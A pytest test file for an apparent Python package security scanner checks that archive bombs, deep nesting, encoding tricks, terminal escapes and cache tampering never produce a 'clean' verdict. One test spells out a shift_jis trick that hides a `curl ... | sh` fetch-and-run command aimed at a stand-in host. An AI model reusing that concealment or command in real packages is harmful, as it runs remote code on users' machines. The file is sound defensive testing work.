"""Hostile input never makes the scanner say "clean" and never costs unbounded time or memory.

Each case is built in ``tmp_path`` by ``tests.support.hostile``, read as data by the real reader
and engine (``scan_files``), and must end ``suspicious`` or worse (the install gate's default
threshold) with a finding that names what was not analysed, within a bounded time.
"""

from __future__ import annotations

import hashlib
import json
import resource
import shutil
import sqlite3
import tarfile
import time
from pathlib import Path

import pytest
from tests.support import hostile

from pipvet.cli.main import main
from pipvet.core.analysis.archive import Limits, read_artifact
from pipvet.core.analysis.coverage import plain_codec
from pipvet.core.text import escape_terminal
from pipvet.services.scan import ScanInput, ScanReport, run_pool, scan_files

FLAGGED = ("suspicious", "malicious")


@pytest.fixture(autouse=True)
def _own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))


def scan(path: Path) -> ScanReport:
    [report] = scan_files([path], use_cache=False)
    return report


def rules(report: ScanReport) -> set[str]:
    return {f.rule for f in report.findings}


def payload_found(report: ScanReport) -> bool:
    return "intent.shell-download-execute" in rules(report)


# -- code the engine could not read ---------------------------------------------------------------


def test_deep_sum_before_payload_does_not_hide_it(tmp_path):
    report = scan(hostile.deep_sum(tmp_path))
    assert payload_found(report)
    assert report.verdict == "malicious"


def test_deep_call_chain_is_a_finding_and_the_rest_is_read(tmp_path):
    report = scan(hostile.deep_calls(tmp_path))
    assert payload_found(report)
    gap = [f for f in report.findings if f.rule == "analysis.depth-limit"]
    assert gap and gap[0].path.endswith("setup.py") and gap[0].severity == "high"
    assert gap[0].line == 3  # the statement holding the chain, not the file


def test_deep_nest_of_plain_containers_is_a_gap_at_its_line_and_the_rest_is_read(tmp_path):
    # lists have no visit of their own: the generic walk follows them, and counts their depth
    nest = "[" * 200 + "1" + "]" * 200
    path = hostile.sdist(tmp_path, {"setup.py": hostile.setup_with(f"x = 1\ny = {nest}\n")})
    report = scan(path)
    assert payload_found(report)
    gap = [f for f in report.findings if f.rule == "analysis.depth-limit"]
    assert gap and gap[0].path.endswith("setup.py") and gap[0].line == 3
    (tmp_path / "shallow").mkdir()
    shallow = hostile.sdist(
        tmp_path / "shallow", {"setup.py": hostile.setup_with(f"x = 1\ny = {nest[100:-100]}\n")}
    )
    assert not [f for f in scan(shallow).findings if f.rule == "analysis.depth-limit"]


def test_walk_does_not_depend_on_the_recursion_limit(tmp_path):
    import sys

    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(400)  # less than the sum's depth (the parser still builds it)
    try:
        report = scan(hostile.deep_sum(tmp_path, terms=600))
    finally:
        sys.setrecursionlimit(limit)
    assert payload_found(report)
    assert not {r for r in rules(report) if r.startswith("analysis.")}  # parsed and walked


def test_comment_flood_after_payload(tmp_path):
    report = scan(hostile.comment_flood(tmp_path))
    assert payload_found(report)
    [gap] = [f for f in report.findings if f.rule == "analysis.size-limit"]
    assert gap.path.endswith("setup.py") and gap.severity == "high"
    assert "MB" in gap.message


def test_utf7_source_is_read_as_python_reads_it(tmp_path):
    report = scan(hostile.utf7_payload(tmp_path))
    assert payload_found(report)
    gap = [f for f in report.findings if f.rule == "analysis.encoding"]
    assert gap and "utf-7" in gap[0].message and gap[0].severity == "high"


@pytest.mark.parametrize("how", ["sys.path", "from", "exec"])
def test_folder_run_by_setup_counts_as_install_time(tmp_path, how):
    report = scan(hostile.setup_runs_tooling(tmp_path, how))
    assert report.verdict == "malicious"
    assert any(f.path.endswith("tools/build_helper.py") for f in report.findings)


def test_unparseable_setup_is_a_gap(tmp_path):
    path = hostile.sdist(tmp_path, {"setup.py": "from setuptools import setup\nsetup(\n"})
    report = scan(path)
    assert "analysis.parse-failed" in rules(report)
    assert report.verdict in FLAGGED


def test_honest_sources_have_no_gaps(tmp_path):
    src = (
        "# -*- coding: latin-1 -*-\n"
        + "x = "
        + " + ".join(["'a'"] * 300)
        + "\n"
        + "if x == 1:\n    pass\n"
        + "".join(f"elif x == {i}:\n    pass\n" for i in range(400))
        + "from setuptools import setup\nsetup(name='demo')\n"
    )
    report = scan(hostile.sdist(tmp_path, {"setup.py": src, "demo/__init__.py": "é = 1\n"}))
    assert not {r for r in rules(report) if r.startswith("analysis.")}
    assert report.verdict == "clean"


# -- members the reader does not reach ------------------------------------------------------------


@pytest.mark.parametrize(
    "build",
    [hostile.many_members, hostile.gzip_bomb_member],
    ids=["members-past-the-bound", "gzip-bomb-4GiB"],
)
def test_unread_rest_of_a_tar_fails_closed(tmp_path, build):
    start = time.process_time()
    report = scan(build(tmp_path))
    assert time.process_time() - start < 60
    assert report.verdict in FLAGGED
    unread = [f for f in report.findings if "not read" in f.message]
    assert unread and unread[0].severity == "high"


def test_zip_bomb_member_is_skipped_and_the_payload_read(tmp_path):
    report = scan(hostile.zip_bomb_member(tmp_path))
    assert payload_found(report)
    assert "archive.zip-bomb" in rules(report)


# -- archives built to cost time and memory -------------------------------------------------------


def _bounded(build, tmp_path) -> tuple[ScanReport, float, int]:
    path = build(tmp_path)
    before = resource.getrusage(resource.RUSAGE_SELF)
    start = time.process_time()
    report = scan(path)
    seconds = time.process_time() - start
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before.ru_maxrss
    return report, seconds, grown


def test_unknown_member_type_declaring_16gib(tmp_path):
    report, seconds, _ = _bounded(hostile.unknown_type_huge, tmp_path)
    assert seconds < 10
    assert report.verdict in FLAGGED
    assert "archive.zip-bomb" in rules(report)


def test_pax_header_of_400000_digits(tmp_path):
    report, seconds, _ = _bounded(hostile.pax_digits, tmp_path)
    assert seconds < 10
    assert "archive.limit-header" in rules(report)
    assert report.verdict in FLAGGED


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME], ids=["pax", "gnu"])
def test_256mib_header_extension_is_refused_before_it_is_read(tmp_path, kind):
    report, seconds, grown_kib = _bounded(lambda d: hostile.long_header(d, kind), tmp_path)
    assert "archive.limit-header" in rules(report)
    assert report.verdict in FLAGGED
    assert seconds < 10
    assert grown_kib < 100 * 1024  # far from the 256 MiB the header declares


def test_honest_pax_headers_still_read(tmp_path):
    long_name = "demo/" + "d" * 150 + "/x.py"
    data = hostile.tar_bytes(
        {long_name: "x = 1\n", "setup.py": hostile.SETUP_HEAD}, tarfile.PAX_FORMAT
    )
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(data)
    report = scan(path)
    assert not {r for r in rules(report) if r.startswith(("archive.", "analysis."))}


# -- output -------------------------------------------------------------------------------------


def test_escapes_in_paths_and_evidence_cannot_erase_the_verdict(tmp_path, capsys):
    path = hostile.escape_path(tmp_path)
    code = main(["-v", "scan", "--no-cache", str(path)])
    out = capsys.readouterr()
    assert code == 1
    for text in (out.out, out.err):
        assert "\x1b[2K" not in text and "\x1b[1A" not in text and "\r" not in text
    assert "MALICIOUS" in out.out
    assert "\\x1b[2K" in out.out  # shown, made visible


# -- the cache and the workers ---------------------------------------------------------------------


def test_cache_row_rewritten_to_clean_is_not_believed(tmp_path, capsys):
    art = hostile.sdist(tmp_path, {"setup.py": hostile.setup_with("")})
    [first] = scan_files([art])
    assert first.verdict == "malicious" and not first.cached
    db = sqlite3.connect(tmp_path / "cache" / "scan-results.sqlite3")
    (text,) = db.execute("SELECT result FROM scan_results").fetchone()
    row = json.loads(text)
    row.update(verdict="clean", score=0, findings=[])
    forged = json.dumps(row, sort_keys=True)
    # a rewritten row, even with a plain checksum recomputed over it, does not verify
    plain = hashlib.sha256(forged.encode()).hexdigest()
    db.execute("UPDATE scan_results SET result = ?, mac = ?", (forged, plain))
    db.commit()
    code = main(["-v", "scan", str(art)])
    err = capsys.readouterr().err
    assert code == 1
    assert "integrity check" in err and "scanned again" in err
    [again] = scan_files([art])
    assert again.cached and again.verdict == "malicious"  # the re-scan replaced the row


def test_engine_version_follows_the_analysis_code(tmp_path):
    import pipvet.core.analysis as analysis_pkg
    from pipvet.core.analysis.engine import ENGINE_INPUTS, ENGINE_VERSION, source_digest

    root = Path(analysis_pkg.__file__).parent
    assert ENGINE_VERSION.endswith(source_digest(root, ENGINE_INPUTS)[:16])
    assert all(p.is_file() for p in ENGINE_INPUTS)  # the name checks and the popular names
    copy = tmp_path / "analysis"
    shutil.copytree(root, copy, ignore=shutil.ignore_patterns("__pycache__"))
    assert source_digest(copy) == source_digest(root)
    rule = copy / "rules" / "intent.py"
    rule.write_text(rule.read_text() + "\n# a changed rule\n")
    assert source_digest(copy) != source_digest(root)
    # ... and so does a change of what the rules read from outside the package
    names = tmp_path / "names.py"
    names.write_bytes(ENGINE_INPUTS[0].read_bytes() + b"\n# a changed name check\n")
    assert source_digest(root, (names,)) != source_digest(root, ENGINE_INPUTS[:1])


def test_a_worker_that_dies_gives_a_finding_and_the_scan_goes_on(tmp_path):
    good = hostile.sdist(tmp_path, {"setup.py": hostile.SETUP_HEAD + hostile.SETUP_TAIL})
    bad = hostile.sdist(tmp_path, {"setup.py": hostile.setup_with("")}, name="bad-1.0.tar.gz")
    dying = hostile.sdist(tmp_path, {"setup.py": "x = 1\n"}, name="die-1.0.tar.gz")
    items = [ScanInput(p, str(p)) for p in (good, dying, bad, good)]
    results: dict[int, dict] = {}
    run_pool(hostile.scan_or_die, items, range(len(items)), 2, results.__setitem__)
    assert sorted(results) == [0, 1, 2, 3]
    assert results[1]["verdict"] == "suspicious"
    assert [f["rule"] for f in results[1]["findings"]] == ["scan.worker-died"]
    assert results[1]["filename"] == "die-1.0.tar.gz"
    assert (results[0]["verdict"], results[2]["verdict"]) == ("clean", "malicious")


def test_the_pool_starts_the_largest_artifacts_first(tmp_path):
    """A big artifact started last keeps one worker busy alone while the other idles."""
    sizes = [10, 5_000, 20, 9_000, 30]
    paths = []
    for n, size in enumerate(sizes):
        p = tmp_path / f"a{n}-1.0.tar.gz"
        p.write_bytes(b"x" * size)
        paths.append(p)
    items = [ScanInput(p, str(p)) for p in paths]
    results: dict[int, dict] = {}
    run_pool(hostile.started_at, items, range(len(items)), 2, results.__setitem__)
    assert sorted(results) == [0, 1, 2, 3, 4]
    first_two = sorted(results, key=lambda i: results[i]["start"])[:2]
    assert set(first_two) == {1, 3}


def test_after_the_first_artifact_the_collector_leaves_long_lived_objects_alone(tmp_path):
    """The engine's own objects are frozen once (``gc.freeze``): a later artifact's collection
    walks only what that artifact made. Run in a fresh process (the test runner's is shared)."""
    import subprocess
    import sys

    art = hostile.sdist(tmp_path, {"setup.py": hostile.SETUP_HEAD + hostile.SETUP_TAIL})
    code = (
        "import gc, sys\n"
        "from pipvet.services.scan import scan_files\n"
        "before = gc.get_freeze_count()\n"
        "scan_files([sys.argv[1]], use_cache=False)\n"
        "first = gc.get_freeze_count()\n"
        "scan_files([sys.argv[1]], use_cache=False)\n"
        "print(before, first > 1000, gc.get_freeze_count() == first, gc.isenabled())\n"
    )
    out = subprocess.run([sys.executable, "-c", code, str(art)], capture_output=True, text=True)
    assert out.stdout.split() == ["0", "True", "True", "True"], out.stderr


# -- units: codecs and terminal text ---------------------------------------------------------------


@pytest.mark.parametrize("codec", ["utf-8", "ascii", "latin-1", "cp1252", "iso8859-15", "koi8-r"])
def test_codecs_that_read_like_bytes(codec):
    assert plain_codec(codec)


@pytest.mark.parametrize(
    "codec", ["utf-7", "shift_jis", "gbk", "big5", "iso-2022-jp", "hz", "utf-16", "no-such"]
)
def test_codecs_that_can_hide_code(codec):
    assert not plain_codec(codec)


def test_shift_jis_string_hiding_code_is_read_as_python_reads_it(tmp_path):
    # in shift_jis the two bytes 0x95 0x5c are one character: the backslash a byte-level reading
    # sees (escaping the quote) is not there, so the string ends and the payload is code
    hidden = b"x = '\x95\\'; import os; os.system('curl -s http://example.invalid/x | sh') #'\n"
    src = b"# coding: shift_jis\n" + hostile.SETUP_HEAD.encode() + hidden + b"setup()\n"
    report = scan(hostile.sdist(tmp_path, {"setup.py": src}))
    assert payload_found(report)
    assert "analysis.encoding" in rules(report)


def test_escape_terminal_makes_controls_and_bidi_visible():
    text = "a\x1b[2Kb\rc\u202ed\x9be\tf\u00e9"
    assert escape_terminal(text) == "a\\x1b[2Kb\\x0dc\\u202ed\\x9be\tf\u00e9"
    assert escape_terminal("plain/path.py") == "plain/path.py"


def test_tooling_setup_does_not_run_stays_tooling(tmp_path):
    release = "import urllib.request\nurllib.request.urlopen('https://example.invalid/upload')\n"
    setup = "import os\n" + hostile.SETUP_HEAD + "here = os.path.dirname('tools')\n"
    setup += hostile.SETUP_TAIL
    report = scan(
        hostile.sdist(
            tmp_path,
            {"setup.py": setup, "tools/release.py": release, "demo/__init__.py": ""},
        )
    )
    assert report.verdict in ("clean", "risky")


def test_entries_that_are_not_files_are_bounded_too(tmp_path):
    path = hostile.entry_flood(tmp_path, 3000)
    art = read_artifact(path, limits=Limits(max_entries=2000))
    [limit] = [f for f in art.archive_findings if f.rule == "archive.limit-members"]
    assert limit.severity == "high" and "not read" in limit.message
    assert not any(m.path.endswith("setup.py") for m in art.members)


def test_a_flood_of_links_is_listed_once_per_kind(tmp_path):
    art = read_artifact(hostile.entry_flood(tmp_path, 1000, tarfile.SYMTYPE))
    links = [f for f in art.archive_findings if f.rule == "archive.symlink"]
    assert len(links) == 51 and "950 more" in links[-1].message
    assert links[-1].severity == "high"
    assert any(m.path.endswith("setup.py") for m in art.members)  # still read to the end
